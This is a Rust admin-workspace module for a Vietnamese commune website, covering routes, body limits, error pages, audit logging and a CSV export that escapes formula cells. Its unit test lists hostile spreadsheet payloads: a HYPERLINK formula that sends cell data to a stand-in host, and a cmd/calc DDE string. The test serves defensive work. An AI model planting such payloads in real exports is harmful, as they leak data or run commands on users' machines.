//! The board's workspace at `/quan-tri` on the commune's own site: sign-in,
//! the dashboard of what waits, the items and their workflow, the board's
//! accounts. Every page is for signed-in members only, never cached, and
//! every form carries the session's CSRF token.

// Handlers return early with the response to send (a redirect to sign in, a
// refusal); that response is the `Err` of small helpers, by design.
#![allow(clippy::result_large_err)]

mod access_info;
mod audit;
mod budget;
mod citizens;
mod consultations;
mod corrections;
mod dashboard;
mod documents;
mod files;
mod home_blocks;
mod item_forms;
mod items;
mod links;
mod list_editor;
mod look;
mod members;
mod menu;
mod procedures;
mod projects;
mod recovery;
mod schedule;
mod security;
mod session;
mod settings;
mod statistics;
mod templates;
mod yearly_report;

use axum::Router;
use axum::extract::DefaultBodyLimit;
use axum::handler::Handler;
use axum::http::{HeaderValue, StatusCode, header};
use axum::middleware;
use axum::response::{IntoResponse, Redirect, Response};
use axum::routing::{get, post};
use congxa_board::BoardError;
use congxa_board::accounts::Account;
use congxa_web::body_limit;
use minijinja::Environment;
use serde::Serialize;

use crate::AppState;
use crate::site::params::Params;

const TEMPLATES: [(&str, &str); 34] = [
    ("templates.html", include_str!("../../admin/templates.html")),
    ("template.html", include_str!("../../admin/template.html")),
    ("look.html", include_str!("../../admin/look.html")),
    ("menu.html", include_str!("../../admin/menu.html")),
    (
        "list_editor.html",
        include_str!("../../admin/list_editor.html"),
    ),
    (
        "home_blocks.html",
        include_str!("../../admin/home_blocks.html"),
    ),
    (
        "yearly_report.html",
        include_str!("../../admin/yearly_report.html"),
    ),
    (
        "statistics.html",
        include_str!("../../admin/statistics.html"),
    ),
    (
        "access_info.html",
        include_str!("../../admin/access_info.html"),
    ),
    ("links.html", include_str!("../../admin/links.html")),
    (
        "target_intro.html",
        include_str!("../../admin/target_intro.html"),
    ),
    (
        "target_button.html",
        include_str!("../../admin/target_button.html"),
    ),
    ("project.html", include_str!("../../admin/project.html")),
    (
        "consultation.html",
        include_str!("../../admin/consultation.html"),
    ),
    ("budget.html", include_str!("../../admin/budget.html")),
    ("schedule.html", include_str!("../../admin/schedule.html")),
    ("procedure.html", include_str!("../../admin/procedure.html")),
    ("settings.html", include_str!("../../admin/settings.html")),
    ("one_stop.html", include_str!("../../admin/one_stop.html")),
    ("security.html", include_str!("../../admin/security.html")),
    ("forgot.html", include_str!("../../admin/forgot.html")),
    ("reset.html", include_str!("../../admin/reset.html")),
    ("document.html", include_str!("../../admin/document.html")),
    ("files.html", include_str!("../../admin/files.html")),
    ("revisions.html", include_str!("../../admin/revisions.html")),
    ("audit.html", include_str!("../../admin/audit.html")),
    ("citizens.html", include_str!("../../admin/citizens.html")),
    ("layout.html", include_str!("../../admin/layout.html")),
    ("sign_in.html", include_str!("../../admin/sign_in.html")),
    ("password.html", include_str!("../../admin/password.html")),
    ("dashboard.html", include_str!("../../admin/dashboard.html")),
    ("items.html", include_str!("../../admin/items.html")),
    ("item.html", include_str!("../../admin/item.html")),
    ("members.html", include_str!("../../admin/members.html")),
];

/// Parses the workspace's templates once.
pub fn templates() -> anyhow::Result<Environment<'static>> {
    let mut env = Environment::new();
    env.add_filter("ngay_gio", |v: &str| {
        time::OffsetDateTime::parse(v, &time::format_description::well_known::Rfc3339)
            .map(congxa_locale::time::date_and_time)
            .unwrap_or_else(|_| v.to_owned())
    });
    for (name, source) in TEMPLATES {
        env.add_template(name, source)?;
    }
    Ok(env)
}

/// The workspace's routes, to be nested under `/quan-tri`, each group
/// reading its forms within the limit its content needs
/// (`congxa_web::body_limit`): an item's text up to the 1 MB the editor
/// promises, a template's source, every other form small. The forms sent
/// before signing in are limited per client address.
pub fn router(state: &AppState) -> Router<AppState> {
    let limit = |bytes: usize| middleware::from_fn_with_state(bytes, body_limit::within);
    let throttled =
        middleware::from_fn_with_state(state.sign_in_throttle.clone(), crate::throttle::limit);
    let before_sign_in = Router::new()
        .route(
            "/dang-nhap",
            get(session::sign_in_form).post(session::sign_in.layer(throttled.clone())),
        )
        .route(
            "/quen-mat-khau",
            get(recovery::forgot_form).post(recovery::forgot.layer(throttled.clone())),
        )
        .route(
            "/dat-lai-mat-khau",
            get(recovery::reset_form).post(recovery::reset.layer(throttled)),
        );
    forms()
        .merge(before_sign_in)
        .route_layer(limit(body_limit::FORM_BYTES))
        .merge(texts().route_layer(limit(body_limit::ITEM_FORM_BYTES)))
        .merge(
            Router::new()
                .route(
                    "/giao-dien/mau/{name}",
                    get(templates::edit).post(templates::change),
                )
                .route_layer(limit(body_limit::TEMPLATE_FORM_BYTES)),
        )
        // The groups' own limits apply; the extractors need not cut again.
        .layer(DefaultBodyLimit::max(body_limit::WORKSPACE_BYTES))
}

/// Forms that carry an item's text, an answer or a report: long texts.
fn texts() -> Router<AppState> {
    Router::new()
        .route("/tin-bai/moi", get(items::new_form).post(items::create))
        .route("/tin-bai/{id}", get(items::show).post(items::save))
        .route("/tin-bai/{id}/thao-tac", post(items::act))
        .route(
            "/tin-bai/{id}/thong-tin",
            get(corrections::form).post(corrections::save),
        )
        .route(
            "/tiep-can-thong-tin/moi",
            get(access_info::new_form).post(access_info::create),
        )
        .route(
            "/van-ban/moi",
            get(documents::new_form).post(documents::create),
        )
        .route("/ngan-sach/moi", get(budget::new_form).post(budget::create))
        .route("/du-an/moi", get(projects::new_form).post(projects::create))
        .route(
            "/lay-y-kien/moi",
            get(consultations::new_form).post(consultations::create),
        )
        .route(
            "/lich-cong-tac/moi",
            get(schedule::new_form).post(schedule::create),
        )
        .route(
            "/thu-tuc/moi",
            get(procedures::new_form).post(procedures::create),
        )
        .route("/hoi-dap/{id}", post(citizens::answer))
        .route("/bao-cao-nam/{year}", post(yearly_report::save))
}

/// Every other page and form of the workspace.
fn forms() -> Router<AppState> {
    Router::new()
        .route("/", get(dashboard::page))
        .route("/dang-xuat", post(session::sign_out))
        .route(
            "/mat-khau",
            get(session::password_form).post(session::change_password),
        )
        .route("/ho-tro", get(session::enter_support))
        .route("/cai-dat", get(settings::page).post(settings::save_profile))
        .route("/cai-dat/can-bo", post(settings::save_official))
        .route("/cai-dat/can-bo/{id}/xoa", post(settings::remove_official))
        .route(
            "/mot-cua",
            get(settings::one_stop).post(settings::record_month),
        )
        .route("/bao-mat", get(security::page))
        .route("/bao-mat/bat", post(security::enable))
        .route("/bao-mat/tat", post(security::disable))
        .route("/tin-bai", get(items::list))
        .route("/tin-bai/{id}/phien-ban", get(items::revisions))
        .route("/tin-bai/{id}/xem-truoc", get(items::preview))
        .route("/lien-ket", get(links::page).post(links::add))
        .route("/giao-dien", get(look::page).post(look::save))
        .route("/giao-dien/xem-truoc", post(look::preview))
        .route(
            "/giao-dien/trinh-don",
            get(list_editor::page::<menu::Menu>).post(list_editor::change::<menu::Menu>),
        )
        .route(
            "/giao-dien/trang-chu",
            get(list_editor::page::<home_blocks::HomeBlocks>)
                .post(list_editor::change::<home_blocks::HomeBlocks>),
        )
        .route("/giao-dien/mau", get(templates::list))
        .route("/lien-ket/{id}", post(links::change))
        .route("/tin-bai/{id}/phien-ban/{revision}", post(items::restore))
        .route("/nhat-ky", get(audit::page))
        .route("/thong-ke", get(statistics::page))
        .route("/thong-ke/nam/{year}", get(statistics::yearly))
        .route("/bao-cao-nam", get(yearly_report::page))
        .route("/bao-cao-nam/{year}/ban-hanh", post(yearly_report::issue))
        .route("/bao-cao-nam/{year}/{file}", get(yearly_report::download))
        .route("/tep", get(files::list))
        .route("/tep/{id}", post(files::change))
        .route("/tai-len.js", get(files::script))
        .route("/bien-tap.js", get(files::editor_script))
        .route("/tep/anh.json", get(files::images))
        .route("/hoi-dap", get(citizens::inbox))
        .route("/gop-y/{id}", post(citizens::moderate))
        .route("/thanh-vien", get(members::list).post(members::create))
        .route(
            "/thanh-vien/{id}/dat-lai-mat-khau",
            post(members::reset_password),
        )
        .route("/thanh-vien/{id}/khoa", post(members::set_active))
}

/// What every workspace page's layout uses.
#[derive(Serialize)]
struct Frame<'a, T: Serialize> {
    title: &'a str,
    account: Option<&'a Account>,
    role_name: &'a str,
    csrf: &'a str,
    message: Option<&'a str>,
    error: Option<&'a str>,
    /// The reason of an operator's support session, shown on every page.
    support: Option<&'a str>,
    #[serde(flatten)]
    page: T,
}

/// Renders a workspace page; never cached anywhere.
fn render<T: Serialize>(
    state: &AppState,
    status: StatusCode,
    template: &str,
    frame: Frame<'_, T>,
) -> Response {
    crate::private_page::render(&state.admin, status, template, frame)
}

/// Records a change made in the workspace (accounts, the site's
/// particulars) in the platform's audit log, where the head's log page and
/// operators see it.
async fn record_change(
    conn: &mut sqlx::PgConnection,
    member: &session::Member,
    action: &str,
    details: serde_json::Value,
) -> Result<(), BoardError> {
    let actor = congxa_tenancy::audit::Actor {
        name: format!("{} <{}>", member.account.name, member.account.email),
        origin: "trang quản trị".to_owned(),
    };
    congxa_tenancy::audit::record(conn, &actor, action, Some(member.tenant.id), details).await?;
    Ok(())
}

/// Refuses a member who may not change the site's settings (its look, its
/// templates).
fn may_change_settings(member: &session::Member) -> Result<(), Response> {
    if member
        .account
        .role
        .may(congxa_board::Permission::ChangeSettings)
    {
        Ok(())
    } else {
        Err(board_error(BoardError::Forbidden))
    }
}

/// A form that changes the site's settings, read once the member may send
/// it (the role, then the form's CSRF token).
fn settings_form(member: &session::Member, body: &[u8]) -> Result<Params, Response> {
    may_change_settings(member)?;
    let form = Params::parse_body(body);
    member.check(&form)?;
    Ok(form)
}

fn see_other(path: &str) -> Response {
    Redirect::to(path).into_response()
}

/// After a refused submission: `Ok` with the reason to show on the form
/// again (with what was typed), or `Err` with the page to answer when the
/// request cannot go on (not allowed, not found, a fault of ours).
fn refusal(error: BoardError) -> Result<String, Response> {
    if error.is_input() && !matches!(error, BoardError::Forbidden | BoardError::RecordNotFound) {
        Ok(error.to_string())
    } else {
        Err(board_error(error))
    }
}

/// A board error as the page a person sees: their mistake explained, or
/// our fault logged.
fn board_error(error: BoardError) -> Response {
    let status = match &error {
        BoardError::Forbidden => StatusCode::FORBIDDEN,
        BoardError::ItemNotFound | BoardError::AccountNotFound | BoardError::RecordNotFound => {
            StatusCode::NOT_FOUND
        }
        BoardError::Conflict | BoardError::WrongState | BoardError::DuplicateEmail => {
            StatusCode::CONFLICT
        }
        BoardError::Database(_) => {
            return congxa_web::ApiError::unavailable(
                "database_unavailable",
                "Cơ sở dữ liệu tạm thời không truy cập được. Vui lòng thử lại sau.",
            )
            .with_source(error)
            .into_page();
        }
        _ => StatusCode::UNPROCESSABLE_ENTITY,
    };
    congxa_web::notice_page(status, "Không thực hiện được", &error.to_string())
}

/// A table as a CSV download for a spreadsheet: UTF-8 with a byte-order
/// mark, which Excel needs to read Vietnamese correctly; never cached.
fn csv_download<I, R>(filename: &'static str, header: &[&str], rows: I) -> Response
where
    I: IntoIterator<Item = R>,
    R: IntoIterator,
    R::Item: AsRef<[u8]>,
{
    let bytes = csv_bytes(header, rows);
    match bytes {
        Ok(bytes) => {
            let disposition = format!("attachment; filename=\"{filename}\"");
            let mut response = (StatusCode::OK, bytes).into_response();
            let headers = response.headers_mut();
            headers.insert(
                header::CONTENT_TYPE,
                HeaderValue::from_static("text/csv; charset=utf-8"),
            );
            if let Ok(value) = HeaderValue::from_str(&disposition) {
                headers.insert(header::CONTENT_DISPOSITION, value);
            }
            headers.insert(header::CACHE_CONTROL, HeaderValue::from_static("no-store"));
            response
        }
        Err(error) => congxa_web::ApiError::internal(error).into_page(),
    }
}

/// The CSV itself, every cell made safe for a spreadsheet.
fn csv_bytes<I, R>(header: &[&str], rows: I) -> Result<Vec<u8>, csv::Error>
where
    I: IntoIterator<Item = R>,
    R: IntoIterator,
    R::Item: AsRef<[u8]>,
{
    let mut writer = csv::Writer::from_writer(vec![0xEF, 0xBB, 0xBF]);
    writer.write_record(header.iter().map(|cell| not_a_formula(cell.as_bytes())))?;
    for row in rows {
        let row: Vec<R::Item> = row.into_iter().collect();
        writer.write_record(row.iter().map(|cell| not_a_formula(cell.as_ref())))?;
    }
    writer.flush()?;
    writer.into_inner().map_err(|e| e.into_error().into())
}

/// A cell that Excel or LibreOffice would read as a formula (it starts with
/// `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading
/// apostrophe, as OWASP advises: what anyone typed into a title, a name or
/// a comment (`=HYPERLINK(…)`) shows as text and runs nothing. Every column
/// goes through here: the figures written (counts, dates) never start with
/// a sign, so no number is changed.
fn not_a_formula(cell: &[u8]) -> std::borrow::Cow<'_, [u8]> {
    match cell.first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => {
            let mut escaped = Vec::with_capacity(cell.len() + 1);
            escaped.push(b'\'');
            escaped.extend_from_slice(cell);
            std::borrow::Cow::Owned(escaped)
        }
        _ => std::borrow::Cow::Borrowed(cell),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read_back(bytes: &[u8]) -> Vec<Vec<String>> {
        let body = bytes.strip_prefix(&[0xEF, 0xBB, 0xBF]).unwrap();
        csv::Reader::from_reader(body)
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect()
    }

    #[test]
    fn a_cell_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text() {
        let hostile = [
            r#"=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")"#,
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1,1)",
            "\t=1+1",
            "\r=1+1",
        ];
        let rows = hostile.iter().map(|cell| [*cell, "Tin tức xã", "12"]);
        let bytes = csv_bytes(&["Đối tượng", "Chuyên mục", "Lượt xem"], rows).unwrap();
        let read = read_back(&bytes);
        assert_eq!(read.len(), hostile.len());
        for (row, cell) in read.iter().zip(hostile) {
            assert_eq!(row[0], format!("'{cell}"));
            assert_eq!(row[1], "Tin tức xã", "text is kept as it is");
            assert_eq!(row[2], "12", "figures are kept as they are");
        }
    }
}
